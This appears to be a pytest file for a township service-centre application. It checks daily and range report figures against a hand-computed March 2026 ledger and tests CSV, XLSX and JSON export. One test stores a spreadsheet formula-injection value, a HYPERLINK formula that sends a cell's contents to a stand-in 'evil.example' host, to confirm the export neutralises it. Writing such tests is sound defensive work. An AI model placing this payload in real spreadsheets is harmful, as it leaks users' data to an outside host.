"""Report figures checked against a small ledger computed by hand, and the CSV / XLSX export.

The ledger (March 2026 has no public holiday; 2026-02-28 is a make-up Saturday):

case  clerk     item   received    accepted  closed               due
G     zhangsan  LSJZ   02-27 补录   03-02     completed 03-16      03-16  on time
A     zhangsan  LSJZ   03-02        03-02     completed 03-13      03-16  on time
B     zhangsan  YLBX   03-02        03-02     completed 03-02      03-02  on time (即办件)
C     wangwu    LSJZ   03-03        -         rejected 03-03
D     wangwu    LSJZ   03-03        03-03     open                 03-17  overdue on 03-20
F     zhangsan  LSJZ   03-04        03-04     completed 03-19      03-18  late
E     wangwu    LSJZ   03-09        03-17 §32 open                 03-23  (see below)

E got no notice: its five working days ran out on Mon 03-16 (10 11 12 13 16), so 行政许可法
§32 counts it as accepted from receipt on Tue 03-17 — even though nobody recorded that (no
sweep ran) — due 10 working days after 03-09: 10 11 12 13 16 17 18 19 20 23 → Mon 03-23.

Consultations: zhangsan 2 (1 referred) on 03-02, wangwu 1 on 03-10.
Ratings: B 满意(2), zhangsan's consultation 基本满意(3), C 非常不满意(5, follow-up due 03-10,
never done), A 非常满意(1), F 不满意(4, appeal upheld: voided).
Complaints: about wangwu 03-05 by phone (due 03-19, open); about zhangsan 03-10 by box
(handled 03-11, called back 03-12).
Away: zhangsan 03-10 10:00 → 11:30 (expected 11:00: 90 min, 30 late); wangwu 03-20 14:00,
expected 15:00, still away at 16:00 when the report is made (120 min, 60 late), covered by
zhangsan, who looks after D and E.
Special: an appointment for Saturday 03-07 (holiday), a home visit on 03-12.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app import (
    away,
    cases,
    centre,
    complaints,
    consultations,
    ratings,
    reports,
    settings,
    special_services,
)
from app.consultations import Referral
from app.desk import Desk
from app.errors import InvalidInput, PermissionDenied
from tests.app.case_helpers import all_received, person, tick
from tests.app.duty_helpers import (
    CLERK,
    CLERK2,
    DIRECTOR,
    LSJZ,
    YLBX,
    MakeDesk,
    as_user,
    at,
    day,
    duty_desk,
    moment,
)
from tests.conftest import FakeClock

# Dated stories: the expectations below are written for these March 2026 days.
pytestmark = pytest.mark.on_date("2026-03-02")


def _case(desk: Desk, item: str, n: int, complete: bool = True, on: dt.date | None = None) -> str:
    ticks = all_received(desk, item) if complete else tick("M01")
    return cases.intake(desk, item, person(n), ticks, on=on).case_no


def build_ledger(make_desk, clock: FakeClock) -> tuple[Desk, dict[str, str]]:  # type: ignore[no-untyped-def]
    desk = duty_desk(make_desk)
    zs, ww, director = as_user(desk, CLERK), as_user(desk, CLERK2), as_user(desk, DIRECTOR)
    no: dict[str, str] = {}
    at(clock, "2026-03-02")
    no["G"] = _case(zs, LSJZ, 7, on=day("2026-02-27"))
    cases.accept(zs, no["G"])
    no["A"] = _case(zs, LSJZ, 1)
    cases.accept(zs, no["A"])
    no["B"] = _case(zs, YLBX, 2)
    cases.accept(zs, no["B"])
    cases.complete(zs, no["B"], "approved")
    c1 = consultations.log(zs, "临时救助怎么申请？", "……", item_code=LSJZ)
    consultations.log(zs, "医保报销？", "请到县医保局", ours=False, topic="医保报销",
                      referral=Referral("县医保局窗口", "刘敏"))  # fmt: skip
    ratings.rate(zs, "case", no["B"], 2)
    ratings.rate(zs, "consultation", c1.consult_no, 3, "paper")
    at(clock, "2026-03-03")
    no["C"] = _case(ww, LSJZ, 3, complete=False)
    cases.reject(ww, no["C"], "不属于本中心受理范围", "县民政局")
    no["D"] = _case(ww, LSJZ, 4)
    cases.accept(ww, no["D"])
    ratings.rate(ww, "case", no["C"], 5, "qr", "白跑一趟")
    at(clock, "2026-03-04")
    no["F"] = _case(zs, LSJZ, 5)
    cases.accept(zs, no["F"])
    at(clock, "2026-03-05", 10)
    complaints.register(zs, "phone", "窗口人员态度生硬", about_staff=CLERK2)
    at(clock, "2026-03-06")
    special_services.record(zs, "appointment", on=day("2026-03-07"), time="09:30",
                            item_code=LSJZ, group="elderly")  # fmt: skip
    at(clock, "2026-03-09")
    no["E"] = _case(ww, LSJZ, 6, complete=False)
    at(clock, "2026-03-10", 10)
    away.post(zs, "errand", "县行政审批局送件", moment("2026-03-10", 11), "13800138000")
    consultations.log(ww, "社保卡补办？", "本窗口可办", topic="社保卡补办")
    second = complaints.register(ww, "box", "预约后仍需排队", about_staff=CLERK)
    at(clock, "2026-03-10", 11, 30)
    away.come_back(zs)
    at(clock, "2026-03-11")
    complaints.handle(director, second.complaint_no, "核实排队情况", "增设预约专窗")
    at(clock, "2026-03-12")
    complaints.call_back(director, second.complaint_no, "已告知，满意", True)
    special_services.record(zs, "home_visit", group="disabled", address="挂榜村3组",
                            outcome="上门采集残疾人证申请材料")  # fmt: skip
    at(clock, "2026-03-13")
    cases.complete(zs, no["A"], "approved")
    ratings.rate(zs, "case", no["A"], 1)
    at(clock, "2026-03-16")
    cases.complete(zs, no["G"], "approved")
    at(clock, "2026-03-19")
    cases.complete(zs, no["F"], "approved")
    bad = ratings.rate(zs, "case", no["F"], 4)
    ratings.appeal(zs, bad.rating_no, "mistaken", "群众误按")
    ratings.decide_appeal(director, bad.rating_no, True, "回访确认误按")
    at(clock, "2026-03-20", 14)
    away.post(ww, "village", "丙谷村入户调查", moment("2026-03-20", 15), "13900139000")
    at(clock, "2026-03-20", 16)
    return desk, no


def test_range_report_matches_the_hand_computed_ledger(make_desk, clock: FakeClock) -> None:  # type: ignore[no-untyped-def]
    desk, no = build_ledger(make_desk, clock)
    assert cases.get_case(desk.conn, no["B"]).summary.due_on == day("2026-03-02")
    r = reports.range_report(as_user(desk, CLERK), day("2026-03-02"), day("2026-03-20"))

    assert r.cases == reports.CaseCounts(
        received=6, accepted=6, completed=4, completed_on_time=3, completed_with_due=4,
        rejected=1, withdrawn=0, lapsed=0,
    )  # fmt: skip
    assert (r.on_time_rate.numerator, r.on_time_rate.denominator) == (3, 4)
    assert r.on_time_rate.percent == 75.0
    items = {i.item_code: i.counts for i in r.by_item}
    assert (items[LSJZ].received, items[LSJZ].accepted, items[LSJZ].completed) == (5, 5, 3)
    assert (items[LSJZ].completed_on_time, items[LSJZ].rejected) == (2, 1)
    assert (items[YLBX].received, items[YLBX].completed_on_time) == (1, 1)

    staff = {s.username: s for s in r.by_staff}
    zs, ww = staff[CLERK], staff[CLERK2]
    assert (zs.counts.received, zs.counts.accepted, zs.counts.completed) == (3, 4, 4)
    assert zs.counts.on_time_rate.percent == 75.0
    assert (ww.counts.received, ww.counts.accepted, ww.counts.rejected) == (3, 2, 1)
    assert (zs.open_cases, ww.open_cases, ww.overdue_cases) == (0, 2, 1)
    assert (zs.consultations, zs.referrals, ww.consultations, ww.referrals) == (2, 1, 1, 0)
    assert (zs.ratings, zs.bad_ratings, ww.ratings, ww.bad_ratings) == (3, 0, 1, 1)
    assert (zs.complaints_about, ww.complaints_about) == (1, 1)
    assert (zs.away_minutes, zs.away_notes, ww.away_minutes, ww.away_notes) == (90, 1, 120, 1)
    assert set(staff) == {CLERK, CLERK2}  # only people with figures are listed

    assert [(o.case_no, o.overdue, o.workdays_left, o.covered_by) for o in r.open_cases] == [
        (no["D"], True, -3, CLERK),
        (no["E"], False, 1, CLERK),  # due Mon 03-23: one working day left on Fri 03-20
    ]
    assert r.overdue_cases == 1 and r.open_cases[0].due_on == day("2026-03-17")
    assert r.open_cases[1].due_on == day("2026-03-23") and r.open_cases[1].state == "accepted"
    assert [(x.case_no, x.kind) for x in r.section32] == [(no["E"], "deemed_accepted")]
    assert r.notice_overrides == ()

    assert (r.consultations.total, r.consultations.ours, r.consultations.referred) == (3, 2, 1)
    assert [c.count for c in r.ratings.per_level] == [1, 1, 1, 0, 1]
    assert r.ratings.total == 4 and r.ratings.voided == 1 and r.ratings.bad == 1
    assert r.ratings.satisfaction == reports.Rate(3, 4, 75.0)
    assert (r.ratings.followups_open, r.ratings.followups_overdue) == (1, 1)
    (f,) = r.ratings.followups
    assert f.due_on == day("2026-03-10") and f.workdays_left == -8 and f.next_step == "verify"

    c = r.complaints
    assert (c.received, c.closed, c.open, c.overdue) == (2, 1, 1, 1)
    assert {x.key: x.count for x in c.by_channel} == {"phone": 1, "box": 1}
    assert c.open_list[0].due_on == day("2026-03-19") and c.open_list[0].workdays_left == -1

    assert (r.special.appointments, r.special.holiday, r.special.after_hours) == (1, 1, 0)
    assert (r.special.home_visits, r.special.proxy) == (1, 0)

    a = r.away
    assert (a.total_minutes, a.notes, a.covered_cases) == (210, 2, 2)
    assert [(x.username, x.minutes_late, x.returned_at is None) for x in a.late_returns] == [
        (CLERK, 30, False),
        (CLERK2, 60, True),
    ]
    assert [x.username for x in a.away_now] == [CLERK2]
    assert r.as_of == day("2026-03-20") and r.generated_by == CLERK


def test_past_daily_reports_judge_open_items_on_their_own_day(make_desk, clock: FakeClock) -> None:  # type: ignore[no-untyped-def]
    desk, no = build_ledger(make_desk, clock)
    d5 = reports.daily_report(desk, day("2026-03-05"))
    assert d5.daily and d5.cases.received == 0 and d5.complaints.received == 1
    assert {o.case_no for o in d5.open_cases} == {no["G"], no["A"], no["D"], no["F"]}
    assert d5.overdue_cases == 0 and d5.section32 == ()
    g = next(o for o in d5.open_cases if o.case_no == no["G"])
    assert g.workdays_left == 7 and g.covered_by is None  # coverage is a present-day fact
    (f,) = d5.ratings.followups
    assert not f.overdue and f.workdays_left == 3
    assert d5.complaints.open == 1 and d5.complaints.overdue == 0
    assert d5.away.away_now == () and d5.away.total_minutes == 0

    d10 = reports.daily_report(desk, day("2026-03-10"))
    assert {s.username: s.away_minutes for s in d10.by_staff}[CLERK] == 90
    assert d10.consultations.total == 1 and d10.complaints.received == 1

    d13 = reports.daily_report(desk, day("2026-03-13"))
    assert d13.cases.completed == 1 and d13.on_time_rate.percent == 100.0
    assert d13.ratings.satisfaction.percent == 100.0

    today = reports.daily_report(desk)
    assert today.start == day("2026-03-20") and today.cases.received == 0
    assert today.ratings.satisfaction.percent is None and today.ratings.satisfaction.label == "—"
    assert today.overdue_cases == 1 and today.away.total_minutes == 120


def test_director_report_lists_overdue_inspections_and_the_hall_grade(
    make_desk: MakeDesk,
    clock: FakeClock,
) -> None:
    desk, _ = build_ledger(make_desk, clock)
    centre.set_profile(
        desk,
        centre.CentreProfileInput(
            "510421100", "攀莲镇便民服务中心", "攀莲镇", "工作日", "12345", 14_000, "75"
        ),
    )
    centre.record_inspection(desk, "fire", "ok", on=day("2026-02-01"))
    centre.register_equipment(desk, "printer", "票据打印机", 1)
    printer = centre.register_equipment(desk, "printer", "A4打印机", 2)
    centre.set_equipment_status(desk, printer.asset_no, "faulty", "卡纸")
    sup = reports.daily_report(desk).supervision
    assert sup.hall is not None and sup.hall.below_third and sup.hall.grade == "未达三级标准"
    assert sup.hall.shortfall_m2 == "5.00"
    assert [(i.kind, i.days_overdue) for i in sup.inspections_overdue] == [("fire", 17)]
    assert "防潮检查" in sup.inspections_unscheduled and sup.equipment_faulty == 1
    assert [(t.window_no, t.days_as_primary) for t in sup.under_one_year] == [(1, 18), (2, 18)]


def test_export_csv_and_xlsx(make_desk, clock: FakeClock, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    desk, no = build_ledger(make_desk, clock)
    start, end = day("2026-03-02"), day("2026-03-20")
    with pytest.raises(PermissionDenied):
        reports.export(as_user(desk, CLERK), start, end, tmp_path / "r.csv")
    director = as_user(desk, DIRECTOR)
    reports.export(director, start, end, tmp_path / "r.csv")
    text = (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(text.splitlines()))
    assert rows[0] == ["# 概况"] and ["收件", "6"] in rows and ["按时办结率", "75.0%"] in rows
    assert ["满意率（非常满意+满意+基本满意）", "75.0%"] in rows
    assert any(r and r[0] == no["D"] and "是" in r for r in rows)
    assert "张秀英" not in text and "13800138000" not in text  # no citizen data in reports

    reports.export(director, start, end, tmp_path / "r.xlsx")
    book = load_workbook(tmp_path / "r.xlsx")
    assert book.sheetnames[:3] == ["概况", "按事项", "按人员"]
    summary = {r[0]: r[1] for r in book["概况"].iter_rows(min_row=2, values_only=True)}
    assert summary["收件"] == 6 and summary["超期件"] == 1 and summary["离岗时长（分钟）"] == 210
    people = {r[0]: r for r in book["按人员"].iter_rows(min_row=2, values_only=True)}
    assert people[CLERK][2:5] == (3, 4, 4)

    with pytest.raises(InvalidInput, match="已存在"):
        reports.export(director, start, end, tmp_path / "r.xlsx")
    with pytest.raises(InvalidInput):
        reports.export(director, start, end, tmp_path / "r.pdf")
    with pytest.raises(InvalidInput):
        reports.range_report(desk, end, start)


def test_report_as_json(make_desk, clock: FakeClock) -> None:  # type: ignore[no-untyped-def]
    desk, _ = build_ledger(make_desk, clock)
    data = reports.as_dict(reports.daily_report(desk))
    text = json.dumps(data, ensure_ascii=False)
    assert data["start"] == "2026-03-20" and data["daily"] is True
    assert data["ratings"]["satisfaction"]["label"] == "—"
    assert data["cases"]["on_time_rate"]["percent"] is None
    assert "open_cases" in text


def test_export_neutralises_formulas_in_free_text(
    make_desk: MakeDesk, clock: FakeClock, tmp_path: Path
) -> None:
    desk = duty_desk(make_desk)
    zs, director = as_user(desk, CLERK), as_user(desk, DIRECTOR)
    at(clock, "2026-03-10", 10)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
    away.post(zs, "errand", evil, moment("2026-03-10", 11), "13800138000")
    at(clock, "2026-03-10", 12)  # still away and late: the note is listed twice
    d = day("2026-03-10")
    reports.export(director, d, d, tmp_path / "r.xlsx")
    book = load_workbook(tmp_path / "r.xlsx")
    places = [row[3] for row in book["去向留言"].iter_rows(min_row=2)]
    assert len(places) == 2
    assert all(c.value == "'" + evil and c.data_type == "s" for c in places)
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]

    reports.export(director, d, d, tmp_path / "r.csv")
    rows = list(csv.reader((tmp_path / "r.csv").read_text(encoding="utf-8-sig").splitlines()))
    cells = [c for row in rows for c in row if "HYPERLINK" in c]
    assert len(cells) == 2 and all(c == "'" + evil for c in cells)

    # The one place: every dangerous start, numbers untouched, stray control characters gone.
    for text in ("+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "=1"):
        assert reports.file_cell(text) == "'" + text
    assert reports.file_cell(-3) == -3 and reports.file_cell(None) is None
    assert reports.file_cell("2026-03-10") == "2026-03-10" and reports.file_cell("—") == "—"
    assert reports.file_cell("县局\x1b送件") == "县局\ufffd送件"


def test_export_to_a_missing_folder_is_a_clear_input_error(make_desk, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    desk = duty_desk(make_desk)
    director = as_user(desk, DIRECTOR)
    d = day("2026-03-02")
    for name in ("r.csv", "r.xlsx"):
        target = tmp_path / "no such folder" / name
        with pytest.raises(InvalidInput, match="文件夹不存在") as refused:
            reports.export(director, d, d, target)
        assert refused.value.field == "file" and not target.parent.exists()


def test_a_past_period_is_reported_as_it_stood_at_its_end(
    make_desk: MakeDesk, clock: FakeClock
) -> None:
    desk, no = build_ledger(make_desk, clock)  # now: 03-20 16:00, wangwu away, zhangsan covers
    past = reports.build_report(desk.conn, day("2026-03-02"), day("2026-03-10"), desk.now())
    lines = {o.case_no: o for o in past.open_cases}
    # G, A and F were completed after 03-10: on 03-10 they were accepted, not 已办结.
    assert {lines[no[k]].state for k in "GAF"} == {"accepted"}
    assert lines[no["A"]].state_label == "已受理" and lines[no["E"]].state == "received"
    # wangwu's cases are covered now, not at the end of 03-10 (nobody was away then).
    assert all(o.covered_by is None for o in past.open_cases)
    current = reports.build_report(desk.conn, day("2026-03-02"), day("2026-03-20"), desk.now())
    assert {o.case_no: o.covered_by for o in current.open_cases} == {
        no["D"]: CLERK,
        no["E"]: CLERK,
    }

    # Settings changed later do not rewrite the past: the grace of 10 minutes and §32's five
    # working days held then.
    director = as_user(desk, DIRECTOR)
    settings.change(director, "away_grace_minutes", 60)
    settings.change(director, "notice_due_workdays", 1)
    past = reports.build_report(desk.conn, day("2026-03-02"), day("2026-03-12"), desk.now())
    assert [(a.username, a.minutes_late) for a in past.away.late_returns] == [(CLERK, 30)]
    assert past.section32 == ()  # E (received 03-09) counted as accepted from 03-17 only
    now = reports.build_report(desk.conn, day("2026-03-02"), day("2026-03-20"), desk.now())
    assert [a.username for a in now.away.late_returns] == []  # 60 minutes' grace from today
    assert [(x.case_no, x.kind) for x in now.section32] == [(no["E"], "deemed_accepted")]


def test_cover_at_the_end_of_a_past_day(make_desk: MakeDesk, clock: FakeClock) -> None:
    desk = duty_desk(make_desk)
    zs = as_user(desk, CLERK)
    case_no = _case(zs, LSJZ, 1)
    clock.current = moment("2026-03-02", 23)
    away.post(zs, "other", "夜间值班", moment("2026-03-03", 1), "13800138000")
    clock.current = moment("2026-03-03", 0, 30)
    away.come_back(zs)
    at(clock, "2026-03-04")
    first = reports.build_report(desk.conn, day("2026-03-02"), day("2026-03-02"), desk.now())
    assert [(o.case_no, o.covered_by) for o in first.open_cases] == [(case_no, CLERK2)]
    second = reports.build_report(desk.conn, day("2026-03-03"), day("2026-03-03"), desk.now())
    assert [(o.case_no, o.covered_by) for o in second.open_cases] == [(case_no, None)]


def test_a_past_days_report_tells_that_days_truth_whenever_it_is_run(
    make_desk: MakeDesk, clock: FakeClock
) -> None:
    """The daily report for Tue 2026-12-01, with paper records (补录) entered days later.

    P, Q received Mon 11-23: notice due by Mon 11-30 (24 25 26 27 30), deemed from 12-01.
      P's paper notice was handed over Fri 11-27 (in time) and typed in on 12-05.
      Q got nothing: §32 counts it accepted on 12-01, due 10 working days after 11-23
      (24 25 26 27 30, 12-01 02 03 04 07 → Mon 12-07): 4 working days left on 12-01.
    R accepted Tue 11-24: due 25 26 27 30, 12-01 02 03 04 07 08 → Tue 12-08 (5 left on 12-01);
      a special procedure from 12-03 (after the day) takes its due date away now.
    T accepted Wed 11-25, forwarded on paper Mon 11-30, typed in 12-03: in handling on 12-01.
    A bad review of zhangsan on 12-01 is verified on 12-08 and voided on appeal on 12-10; a
    complaint made on 12-01 is handled on 12-08; a printer broke on 12-08.
    """
    desk = duty_desk(make_desk)
    zs, director = as_user(desk, CLERK), as_user(desk, DIRECTOR)
    at(clock, "2026-11-23")
    p = _case(zs, LSJZ, 1, complete=False)
    q = _case(zs, LSJZ, 2, complete=False)
    at(clock, "2026-11-24")
    r = _case(zs, LSJZ, 3)
    cases.accept(zs, r)
    at(clock, "2026-11-25")
    t = _case(zs, LSJZ, 4)
    cases.accept(zs, t)
    at(clock, "2026-12-01", 16)
    bad = ratings.rate(zs, "case", r, 5, "qr", "等了很久")
    complaint = complaints.register(zs, "phone", "窗口排队时间长", about_staff=CLERK2)
    printer = centre.register_equipment(director, "printer", "一号窗口打印机", window_no=1)
    at(clock, "2026-12-03")
    cases.forward(zs, t, "民政办", on=day("2026-11-30"))
    cases.pause(zs, r, "inspection", "入户调查")
    at(clock, "2026-12-05")
    cases.issue_notice(zs, p, on=day("2026-11-27"))

    first = reports.daily_report(zs, day("2026-12-01"))
    assert first.cases.accepted == 1  # Q, counted on the day §32 made it accepted
    assert [(x.case_no, x.kind) for x in first.section32] == [(q, "deemed_accepted")]
    lines = {o.case_no: o for o in first.open_cases}
    assert {k: lines[k].state for k in (p, q, r, t)} == {
        p: "awaiting_correction",
        q: "accepted",
        r: "accepted",
        t: "in_handling",
    }
    assert (lines[q].due_on, lines[q].workdays_left) == (day("2026-12-07"), 4)
    assert (lines[r].due_on, lines[r].workdays_left) == (day("2026-12-08"), 5)
    assert cases.get_case(desk.conn, r).summary.due_on is None  # paused now
    assert (first.ratings.total, first.ratings.bad, first.ratings.voided) == (1, 1, 0)
    assert [f.next_step for f in first.ratings.followups] == ["verify"]
    assert [c.state for c in first.complaints.open_list] == ["open"]
    assert first.supervision.equipment_faulty == 0

    # The sweep records Q's deeming, more paper records for other days come in, R resumes,
    # and the report is run again a month later: the same report.
    at(clock, "2026-12-07")
    assert cases.lapse_overdue(zs) == []
    assert cases.get_case(desk.conn, q).accepted_on == day("2026-12-01")
    at(clock, "2026-12-08")
    ratings.followup_step(director, bad.rating_no, "verify", "核实属实")
    complaints.handle(director, complaint.complaint_no, "核实排队情况", "增设窗口")
    centre.set_equipment_status(director, printer.asset_no, "faulty", "卡纸")
    assert reports.daily_report(zs, day("2026-12-08")).supervision.equipment_faulty == 1
    ratings.appeal(zs, bad.rating_no, "mistaken", "群众误按")
    at(clock, "2026-12-10")
    ratings.decide_appeal(director, bad.rating_no, True, "回访确认误按")
    assert reports.daily_report(zs, day("2026-12-10")).ratings.voided == 0  # rated on 12-01
    cases.resume(zs, r)
    late = _case(zs, LSJZ, 5, complete=False, on=day("2026-12-02"))
    cases.issue_notice(zs, late, on=day("2026-12-03"))
    cases.supplement(zs, p, all_received(zs, LSJZ), on=day("2026-12-04"))
    cases.accept(zs, p, on=day("2026-12-04"))
    at(clock, "2026-12-31")
    cases.complete(zs, t, "approved")
    again = reports.daily_report(zs, day("2026-12-01"))
    assert again.generated_at != first.generated_at
    assert dataclasses.replace(again, generated_at=first.generated_at) == first
